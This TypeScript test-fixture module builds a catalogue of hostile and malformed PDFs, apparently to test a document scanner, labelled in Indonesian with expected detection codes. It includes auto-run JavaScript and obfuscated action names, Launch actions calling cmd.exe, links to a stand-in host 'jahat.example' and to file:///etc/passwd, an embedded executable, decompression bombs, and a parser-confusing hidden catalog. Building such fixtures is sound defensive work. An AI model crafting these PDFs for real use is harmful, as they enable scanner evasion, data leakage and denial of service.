import { deflateSync } from 'node:zlib';
import { pdf, pdf15, type Body, type PdfOdd } from './pdf.js';
import { latin, type Hostile } from './sample.js';

const file = (nama: string, apa: string, kode: string, buat: () => Buffer): Hostile => ({ nama, apa, kode, buat });
const with_ = (apa: string, kode: string, odd: PdfOdd, more: readonly Body[] = []): Hostile => file(`${apa.toLowerCase().replace(/[^a-z0-9]+/g, '-')}.pdf`, apa, kode, () => pdf(more, odd));
const link = (action: string): PdfOdd => ({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${action} >> >>]` });
const MB = 1024 * 1024;
const ZEROS = deflateSync(Buffer.alloc(64 * MB));

/** PDFs that act, bring something along, or are not whole. */
export const PDFS: readonly Hostile[] = [
  with_('JavaScript saat dibuka', 'pdf-aktif', { catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
  with_('JavaScript dengan nama tersandi', 'pdf-aktif', { catalog: '/OpenAction << /S /#4aava#53cript /#4aS (1) >>' }),
  with_('JavaScript dengan nama di objek lain', 'pdf-aktif', { catalog: '/OpenAction 5 0 R' }, ['<< /S 6 0 R >>', '/JavaScript']),
  with_('JavaScript pada daftar nama', 'pdf-aktif', { catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>' }, ['<< /S /JavaScript /JS (1) >>']),
  with_('JavaScript di dalam aliran', 'pdf-aktif', { catalog: '/OpenAction << /S /JavaScript /JS 5 0 R >>' }, [{ dict: '', stream: latin('app.alert(1)') }]),
  file('javascript-tersembunyi.pdf', 'JavaScript di dalam aliran objek', 'pdf-aktif', () => pdf15(['<< /S /JavaScript /JS (1) >>'], { catalog: '/OpenAction 5 0 R' })),
  with_('Launch', 'pdf-aktif', link('/S /Launch /F (cmd.exe)')),
  with_('Launch dengan nama tersandi', 'pdf-aktif', link('/S /#4caunch /F (cmd.exe)')),
  with_('Launch dengan nama di objek lain', 'pdf-aktif', link('/S 5 0 R /F (cmd.exe)'), ['/Launch']),
  with_('Launch saat dibuka', 'pdf-aktif', { catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>' }),
  with_('tindakan halaman', 'pdf-aktif', { page: '/AA << /O << /S /URI /URI (http://jahat.example) >> >>' }),
  with_('URI saat dibuka', 'pdf-aktif', { catalog: '/OpenAction << /S /URI /URI (http://jahat.example) >>' }),
  with_('GoTo lalu URI saat dibuka', 'pdf-aktif', { catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://jahat.example) >> >>' }),
  with_('tautan javascript', 'pdf-aktif', link('/S /URI /URI (javascript:alert\\(1\\))')),
  with_('tautan berkas', 'pdf-aktif', link('/S /URI /URI (file:///etc/passwd)')),
  with_('GoToR', 'pdf-aktif', link('/S /GoToR /F (\\\\\\\\jahat.example\\\\x.pdf)')),
  with_('GoToE', 'pdf-aktif', link('/S /GoToE /F (x.pdf)')),
  with_('SubmitForm', 'pdf-aktif', link('/S /SubmitForm /F << /FS /URL /F (http://jahat.example) >>')),
  with_('ImportData', 'pdf-aktif', link('/S /ImportData /F (x.fdf)')),
  with_('berkas tertanam', 'pdf-lampiran', { catalog: '/Names << /EmbeddedFiles << /Names [(x.exe) 5 0 R] >> >>' }, ['<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>', { dict: '/Type /EmbeddedFile', stream: latin('MZ') }]),
  with_('lampiran pada halaman', 'pdf-lampiran', { page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>]' }),
  with_('portofolio', 'pdf-lampiran', { catalog: '/Collection << /View /D >>' }),
  with_('formulir XFA', 'pdf-formulir-xfa', { catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>' }, [{ dict: '', stream: latin('<xdp:xdp/>') }]),
  with_('RichMedia', 'pdf-media', { page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]' }),
  with_('video', 'pdf-media', { page: '/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition >> >>]' }),
  with_('aliran di berkas lain', 'tautan-luar', {}, [{ dict: '/F (http://jahat.example/x)', stream: latin('x') }]),
  with_('PostScript', 'pdf-aktif', {}, [{ dict: '/Type /XObject /Subtype /PS', stream: latin('(x) print') }]),
  with_('bersandi', 'bersandi', { trailer: '/Encrypt 5 0 R /ID [<00> <00>]' }, ['<< /Filter /Standard /V 2 /R 3 /O (o) /U (u) /P -4 >>']),
  with_('daftar acuan salah', 'pdf-rusak', { shift: 7 }),
  with_('daftar acuan lama yang tidak ada', 'pdf-rusak', { trailer: '/Prev 20' }),
  with_('panjang aliran di objek lain tidak sesuai', 'pdf-rusak', {}, ['<< /Length 6 0 R >>\nstream\nAAAAAAAAAA\nendstream', '5']),
  with_('gambar raksasa', 'gambar-terlalu-besar', {}, [{ dict: '/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode', stream: latin('x') }]),
  with_('bom aliran', 'bom-arsip', {}, Array<Body>(9).fill({ dict: '/Filter /FlateDecode', stream: ZEROS })),
  with_('bom bertingkat', 'bom-arsip', {}, [{ dict: '/Filter [/FlateDecode /FlateDecode]', stream: deflateSync(deflateSync(Buffer.alloc(MB))) }]),
  file('terpotong.pdf', 'PDF terpotong', 'terpotong', () => pdf().subarray(0, 500)),
  file('panjang-salah.pdf', 'panjang aliran tidak sesuai', 'pdf-rusak', () => latin(pdf([{ dict: '', stream: Buffer.alloc(100, 65) }]).toString('latin1').replace('/Length 100', '/Length 900'))),
  file('tersembunyi.pdf', 'objek di dalam aliran yang ditunjuk daftar acuan', 'pdf-rusak', hiddenObject),
  file('kepala.pdf', 'isi acak dengan kepala PDF', 'terpotong', () => latin(`%PDF-1.7\n${'acak '.repeat(500)}`)),
  file('tanpa-halaman.pdf', 'PDF tanpa halaman', 'pdf-rusak', () => latin(pdf().toString('latin1').replace('/Kids [3 0 R] /Count 1', '/Kids [     ] /Count 0'))),
];

/** A stream that holds another catalog, to which the table of references leads: one reader sees a stream, another one an action. */
function hiddenObject(): Buffer {
  const inner = '1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (1) >> >>\nendobj\n';
  const plain = pdf([{ dict: '', stream: latin(inner) }]).toString('latin1');
  const rows = /xref\n0 6\n0000000000 65535 f \n(\d{10})/.exec(plain);
  return latin(plain.replace(`${rows?.[1]} 00000 n`, `${String(plain.indexOf(inner)).padStart(10, '0')} 00000 n`));
}
